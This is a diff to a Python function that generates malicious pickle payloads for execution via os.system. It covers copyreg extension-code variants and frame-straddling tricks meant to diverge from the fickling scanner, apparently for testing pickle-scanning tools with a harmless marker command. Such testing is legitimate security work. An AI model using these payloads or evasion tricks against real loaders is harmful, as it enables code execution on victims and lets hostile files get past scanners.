@@ -93,16 +93,16 @@ def payloads(marker: Path) -> dict[str, bytes]:
     # EXT: a copyreg extension code names the callable; what it names depends on the loader.
     code = 0xF1
     try:
-        copyreg.add_extension("os", "system", code)
+        copyreg.add_extension(os.system.__module__, "system", code)  # "posix" on Linux
         out["EXT1 registered"] = pickle.dumps(Reduce(os.system, cmd), protocol=2)
     finally:
-        copyreg.remove_extension("os", "system", code)
+        copyreg.remove_extension(os.system.__module__, "system", code)
     out["EXT1 unregistered"] = b"\x80\x02\x82\xf1" + _u(cmd) + b"\x85R."
     out["EXT2"] = b"\x80\x02\x83\xf1\x00" + _u(cmd) + b"\x85R."
     out["EXT4"] = b"\x80\x02\x84\xf1\x00\x00\x00" + _u(cmd) + b"\x85R."
     # FRAME divergence (fickling): an opcode argument that runs past its frame's end.
     hidden = b"\x80\x04" + _u("os") + _u("system") + b"\x93" + _u(cmd) + b"\x85R."
-    inner = b"B" + struct.pack("<I", len(hidden) + 4) + hidden[:4]
+    inner = b"B" + struct.pack("<I", len(hidden)) + hidden[:4]
     out["FRAME straddled"] = b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner + hidden[4:] + b"0N."
     frame_body = hidden[2:-1] + b"."
     out["FRAME nested"] = (b"\x80\x04\x95" + struct.pack("<Q", 30) + b"\x95" + struct.pack("<Q", len(frame_body))
